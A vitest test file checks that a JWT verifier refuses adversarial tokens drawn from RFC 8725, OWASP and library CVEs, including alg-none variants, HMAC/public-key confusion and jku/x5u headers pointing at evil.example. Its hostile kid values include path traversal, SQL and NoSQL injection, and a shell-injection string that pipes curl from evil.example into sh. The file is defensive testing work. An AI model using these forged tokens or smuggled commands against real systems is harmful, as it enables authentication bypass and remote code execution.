/**
 * Hostile tokens, from RFC 8725, the OWASP JWT cheat sheet and the CVEs of JWT libraries. Each is
 * refused with its documented reason, and none makes the verifier reach the network.
 */
import { createHmac, createPublicKey, generateKeyPairSync, sign as nodeSign } from "node:crypto";
import net from "node:net";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { decodeBase64url, encodeBase64url } from "../../../../shared/kernel/base64url.ts";
import type { Keyring } from "../../../../shared/keyring/keyring.ts";
import { directNode } from "../../../../shared/tokens/direct.ts";
import { directWebCrypto } from "../../../../shared/tokens/direct-webcrypto.ts";
import type { RefusalReason } from "../../../../shared/tokens/refusal.ts";
import { createVerifier, type VerifierOptions } from "../../../../shared/tokens/verifier.ts";
import { seededRandom, T0 } from "../../../support/deterministic.ts";
import { newKeyring, withPending } from "../../../support/keyrings.ts";

const NOW = T0 + 60_000;
const nowS = NOW / 1000;
const ISSUER = "https://id.example.com";

let keyring: Keyring;
let hmacKid: string;
let ecKid: string;
let hmacSecret: Uint8Array;

const outbound = { fetch: vi.fn(), connect: vi.fn() };

beforeAll(async () => {
  const published = await withPending(
    await newKeyring("HS256"),
    "ES256",
    T0,
    seededRandom("adversarial"),
  );
  keyring = published;
  hmacKid = published.keys[0]!.kid;
  ecKid = published.keys[1]!.kid;
  hmacSecret = decodeBase64url(published.keys[0]!.jwk!.k)!;
  // Watch every way a verifier could reach out (fetching a jku, x5u, ...). Nothing is replaced.
  outbound.fetch = vi.spyOn(globalThis, "fetch");
  outbound.connect = vi.spyOn(net.Socket.prototype, "connect");
});

afterAll(() => {
  expect(outbound.fetch).not.toHaveBeenCalled();
  expect(outbound.connect).not.toHaveBeenCalled();
  vi.restoreAllMocks();
});

const b64 = (value: unknown) =>
  encodeBase64url(
    new TextEncoder().encode(typeof value === "string" ? value : JSON.stringify(value)),
  );

function claims(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const base: Record<string, unknown> = {
    sub: "mallory",
    iat: nowS - 10,
    exp: nowS + 3600,
    jti: "j-1",
    iss: ISSUER,
  };
  for (const [name, value] of Object.entries(overrides)) {
    if (value === undefined) delete base[name];
    else base[name] = value;
  }
  return base;
}

/** A token whose signing input is HMAC-signed with `secret` (the real key unless an attack says otherwise). */
function hmacToken(
  header: unknown,
  payload: unknown,
  secret: Uint8Array | string = hmacSecret,
): string {
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${encodeBase64url(createHmac("sha256", secret).update(input).digest())}`;
}

const hs = (extra: Record<string, unknown> = {}) => ({
  alg: "HS256",
  kid: hmacKid,
  typ: "JWT",
  ...extra,
});

type Case = [name: string, token: () => string, reason: RefusalReason, options?: VerifierOptions];

function ecPublicKeyEncodings(): [string, Uint8Array | string][] {
  const jwk = keyring.keys[1]!.jwk!;
  const pub = createPublicKey({
    key: { kty: "EC", crv: "P-256", x: jwk.x!, y: jwk.y! },
    format: "jwk",
  });
  const pem = pub.export({ type: "spki", format: "pem" }).toString();
  const raw = new Uint8Array([4, ...decodeBase64url(jwk.x)!, ...decodeBase64url(jwk.y)!]);
  return [
    ["SPKI PEM", pem],
    ["PEM with a leading newline", `\n${pem}`],
    ["DER", new Uint8Array(pub.export({ type: "spki", format: "der" }))],
    ["JWK JSON", JSON.stringify({ kty: "EC", crv: "P-256", x: jwk.x, y: jwk.y })],
    ["raw point bytes", raw],
  ];
}

const cases: Case[] = [
  ...["none", "None", "NONE", "nOnE"].map(
    (alg): Case => [
      `alg ${alg}`,
      () => `${b64({ alg, kid: hmacKid })}.${b64(claims())}.`,
      "alg_not_allowed",
    ],
  ),
  [
    "an alg other than the key's (HS512)",
    () => hmacToken(hs({ alg: "HS512" }), claims()),
    "alg_not_allowed",
  ],
  [
    "an alg other than the key's (ES256 on the HMAC key)",
    () => hmacToken(hs({ alg: "ES256" }), claims()),
    "alg_not_allowed",
  ],
  [
    "an alg other than the key's (RS256)",
    () => hmacToken(hs({ alg: "RS256" }), claims()),
    "alg_not_allowed",
  ],
  ["an unknown kid", () => hmacToken(hs({ kid: "no-such-kid" }), claims()), "unknown_kid"],
  [
    "no kid and no legacy key",
    () => hmacToken({ alg: "HS256", typ: "JWT" }, claims()),
    "kid_missing",
  ],
  ...(
    [
      ["path separators", "../../../etc/passwd"],
      ["a backslash path", "..\\keys\\k1"],
      ["quotes", 'k1"; --'],
      ["NUL", "k1\u0000.pem"],
      ["SQL", "' OR '1'='1"],
      ["shell text", "$(curl evil.example | sh)"],
      ["an empty string", ""],
    ] as const
  ).map(
    ([name, kid]): Case => [
      `a kid with ${name}`,
      () => hmacToken(hs({ kid }), claims()),
      "kid_invalid",
    ],
  ),
  ["a numeric kid", () => hmacToken(hs({ kid: 7 }), claims()), "kid_invalid"],
  ["an object kid", () => hmacToken(hs({ kid: { $ne: null } }), claims()), "kid_invalid"],
  [
    "a 10 kB kid",
    () => hmacToken(hs({ kid: "A".repeat(10_240) }), claims()),
    "kid_invalid",
    { maxTokenLength: 65_536 },
  ],
  [
    "an embedded jwk",
    () =>
      hmacToken(
        hs({ jwk: { kty: "oct", k: b64("attacker-secret-attacker-secret!") } }),
        claims(),
        "attacker-secret-attacker-secret!",
      ),
    "header_not_allowed",
  ],
  [
    "a jku",
    () => hmacToken(hs({ jku: "https://evil.example/jwks.json" }), claims()),
    "header_not_allowed",
  ],
  [
    "an x5u",
    () => hmacToken(hs({ x5u: "https://evil.example/cert.pem" }), claims()),
    "header_not_allowed",
  ],
  [
    "an x5c",
    () => hmacToken(hs({ x5c: ["MIIBszCCAVmgAwIBAgIU"] }), claims()),
    "header_not_allowed",
  ],
  [
    "an unknown crit",
    () => hmacToken(hs({ crit: ["exp"], exp: 1 }), claims()),
    "header_not_allowed",
  ],
  [
    "a crit that is not an array",
    () => hmacToken(hs({ crit: "b64" }), claims()),
    "header_not_allowed",
  ],
  ["an empty crit", () => hmacToken(hs({ crit: [] }), claims()), "header_not_allowed"],
  [
    "b64: false",
    () => {
      const header = b64(hs({ b64: false, crit: ["b64"] }));
      // An unencoded payload without dots, so the token still has three segments.
      const payload = JSON.stringify(claims({ iss: undefined }));
      const mac = createHmac("sha256", hmacSecret).update(`${header}.${payload}`).digest();
      return `${header}.${payload}.${encodeBase64url(mac)}`;
    },
    "header_not_allowed",
  ],
  [
    "a JWE (5 segments)",
    () =>
      `${b64({ alg: "dir", enc: "A256GCM", kid: hmacKid })}..${b64("iv")}.${b64("ct")}.${b64("tag")}`,
    "malformed",
  ],
  [
    "a modified header",
    () => {
      const [h, p, s] = hmacToken(hs(), claims()).split(".");
      return [b64({ ...JSON.parse(atob(h!)), typ: "at+jwt" }), p, s].join(".");
    },
    "signature_invalid",
  ],
  [
    "a modified payload",
    () => {
      const [h, , s] = hmacToken(hs(), claims()).split(".");
      return [h, b64(claims({ sub: "admin" })), s].join(".");
    },
    "signature_invalid",
  ],
  [
    "a modified signature",
    () => {
      const token = hmacToken(hs(), claims());
      return `${token.slice(0, -1)}${token.endsWith("A") ? "B" : "A"}`;
    },
    "signature_invalid",
  ],
  [
    "a truncated HMAC",
    () => {
      const [h, p, s] = hmacToken(hs(), claims()).split(".");
      return [h, p, encodeBase64url(decodeBase64url(s)!.subarray(0, 16))].join(".");
    },
    "signature_invalid",
  ],
  [
    "an empty signature",
    () => `${hmacToken(hs(), claims()).split(".").slice(0, 2).join(".")}.`,
    "signature_invalid",
  ],
  [
    "a missing segment",
    () => hmacToken(hs(), claims()).split(".").slice(0, 2).join("."),
    "malformed",
  ],
  ["an extra segment", () => `${hmacToken(hs(), claims())}.${b64("x")}`, "malformed"],
  ["bad base64url in the header", () => `eyJ!!!.${b64(claims())}.c2ln`, "malformed"],
  [
    "bad base64url in the signature",
    () => `${hmacToken(hs(), claims()).split(".").slice(0, 2).join(".")}.c2ln+/==`,
    "malformed",
  ],
  ["a header that is not JSON", () => `${b64("{alg:HS256")}.${b64(claims())}.c2ln`, "malformed"],
  ["a payload that is not JSON", () => hmacToken(hs(), "not json"), "malformed"],
  ["a payload that is a JSON array", () => hmacToken(hs(), [claims()]), "malformed"],
  ["a payload that is a JSON number", () => hmacToken(hs(), "1700000000"), "malformed"],
  ["exp as a string", () => hmacToken(hs(), claims({ exp: String(nowS + 3600) })), "claim_invalid"],
  ["nbf as a string", () => hmacToken(hs(), claims({ nbf: String(nowS - 10) })), "claim_invalid"],
  ["iat as a string", () => hmacToken(hs(), claims({ iat: String(nowS - 10) })), "claim_invalid"],
  ["exp missing", () => hmacToken(hs(), claims({ exp: undefined })), "claim_missing"],
  ["jti missing", () => hmacToken(hs(), claims({ jti: undefined })), "claim_missing"],
  ["iat missing", () => hmacToken(hs(), claims({ iat: undefined })), "claim_missing"],
  ["an expired token", () => hmacToken(hs(), claims({ exp: nowS - 60 })), "expired"],
  [
    "a token not yet valid (nbf)",
    () => hmacToken(hs(), claims({ nbf: nowS + 600 })),
    "not_yet_valid",
  ],
  [
    "a token issued in the future (iat)",
    () => hmacToken(hs(), claims({ iat: nowS + 600 })),
    "not_yet_valid",
  ],
  [
    "a token both expired and forged",
    () => hmacToken(hs(), claims({ exp: nowS - 60 }), "forged-forged-forged-forged-forged"),
    "signature_invalid",
  ],
  [
    "an iss that is a substring of the expected one",
    () => hmacToken(hs(), claims({ iss: "https://id.example" })),
    "issuer_mismatch",
    { issuer: ISSUER },
  ],
  [
    "an iss that is a superstring of the expected one",
    () => hmacToken(hs(), claims({ iss: `${ISSUER}.evil.example` })),
    "issuer_mismatch",
    { issuer: ISSUER },
  ],
  [
    "an iss that is an array holding the expected one",
    () => hmacToken(hs(), claims({ iss: [ISSUER] })),
    "issuer_mismatch",
    { issuer: ISSUER },
  ],
  ["aud missing", () => hmacToken(hs(), claims()), "audience_mismatch", { audience: "orders-api" }],
  [
    "aud wrong",
    () => hmacToken(hs(), claims({ aud: "billing-api" })),
    "audience_mismatch",
    { audience: "orders-api" },
  ],
  [
    "aud an empty array",
    () => hmacToken(hs(), claims({ aud: [] })),
    "audience_mismatch",
    { audience: "orders-api" },
  ],
  [
    "a refresh token presented as an access token",
    () => hmacToken(hs({ typ: "refresh+jwt" }), claims()),
    "type_mismatch",
    { type: "at+jwt" },
  ],
  [
    "a token over the size cap",
    () => hmacToken(hs(), claims({ pad: "x".repeat(9000) })),
    "token_too_large",
  ],
  ["a 1 MB run of dots", () => ".".repeat(1024 * 1024), "token_too_large"],
];

/** Every signature path: jose's, Node verifiers' direct one, the edge's WebCrypto one; they must agree. */
const HS256_PATHS: [string, VerifierOptions][] = [
  ["jose", {}],
  ["direct (Node crypto)", { direct: directNode() }],
  ["direct (WebCrypto)", { directAsync: directWebCrypto() }],
];

describe.each(HS256_PATHS)("adversarial tokens are refused with their reason (%s)", (_, path) => {
  it.each(cases)("%s", async (_name, make, reason, options) => {
    expect(await createVerifier({ ...options, ...path }).verify(make(), keyring, NOW)).toEqual({
      ok: false,
      reason,
    });
  });

  it.each(["SPKI PEM", "PEM with a leading newline", "DER", "JWK JSON", "raw point bytes"])(
    "HMAC/asymmetric confusion: an HS256 token keyed with the ES256 public key as %s",
    async (encoding) => {
      const publicKeyBytes = new Map(ecPublicKeyEncodings()).get(encoding)!;
      const token = hmacToken({ alg: "HS256", kid: ecKid }, claims(), publicKeyBytes);
      expect(await createVerifier(path).verify(token, keyring, NOW)).toEqual({
        ok: false,
        reason: "alg_not_allowed",
      });
    },
  );

  it("an ES256 token signed by an attacker's key under the real kid", async () => {
    const attacker = generateKeyPairSync("ec", { namedCurve: "P-256" });
    const input = `${b64({ alg: "ES256", kid: ecKid })}.${b64(claims())}`;
    const signature = nodeSign("sha256", Buffer.from(input), {
      key: attacker.privateKey,
      dsaEncoding: "ieee-p1363",
    });
    const token = `${input}.${encodeBase64url(signature)}`;
    expect(await createVerifier(path).verify(token, keyring, NOW)).toEqual({
      ok: false,
      reason: "signature_invalid",
    });
  });

  it("refuses oversize input before parsing anything", async () => {
    // Spies observe only: JSON parsing and signature checks must not run for an oversize token.
    const parse = vi.spyOn(JSON, "parse");
    const verify = vi.spyOn(crypto.subtle, "verify");
    const result = await createVerifier(path).verify(".".repeat(1024 * 1024), keyring, NOW);
    expect(result).toEqual({ ok: false, reason: "token_too_large" });
    expect(parse).not.toHaveBeenCalled();
    expect(verify).not.toHaveBeenCalled();
    parse.mockRestore();
    verify.mockRestore();
  });

  it("the well-formed control token is allowed, so the cases above fail for their own reason", async () => {
    const result = await createVerifier({ issuer: ISSUER, ...path }).verify(
      hmacToken(hs(), claims()),
      keyring,
      NOW,
    );
    expect(result).toMatchObject({ ok: true, kid: hmacKid });
  });
});
